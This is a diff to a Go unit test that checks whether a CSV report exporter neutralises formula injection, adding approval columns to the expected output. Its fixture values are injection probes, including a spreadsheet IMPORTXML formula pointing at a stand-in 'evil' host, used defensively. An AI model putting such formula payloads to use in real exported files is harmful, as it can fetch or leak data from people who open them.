@@ -34,13 +34,14 @@ func TestReportCSVEscapesEveryCell(t *testing.T) {
 		Key: "=key", Row: 2, Channel: "tg", Platform: "telegram", DueAt: time.Date(2026, 12, 1, 7, 0, 0, 0, time.UTC),
 		Status: herald.StatusFailed, RemoteID: "@id", URL: "+url", PublishedAt: &pub, Attempts: 3, Error: "-oops, \"quoted\"",
 		Text: "=IMPORTXML(\"http://evil\")\nline two", Rubric: "@tips",
+		Approval: herald.Approval{State: "rejected", Step: "client", Decisions: []herald.Decision{{Note: "=1+1, no"}}},
 	}})
 	if err != nil {
 		t.Fatal(err)
 	}
-	want := "key,row,channel,platform,due_at,status,remote_id,url,published_at,attempts,error,text,rubric\n" +
+	want := "key,row,channel,platform,due_at,status,remote_id,url,published_at,attempts,error,text,rubric,approval,approval_step,approval_note\n" +
 		"'=key,2,tg,telegram,2026-12-01T07:00:00Z,failed,'@id,'+url,2026-12-01T07:00:05Z,3,\"'-oops, \"\"quoted\"\"\"," +
-		"\"'=IMPORTXML(\"\"http://evil\"\")\nline two\",'@tips\n"
+		"\"'=IMPORTXML(\"\"http://evil\"\")\nline two\",'@tips,rejected,client,\"'=1+1, no\"\n"
 	if string(b) != want {
 		t.Errorf("got\n%s\nwant\n%s", b, want)
 	}
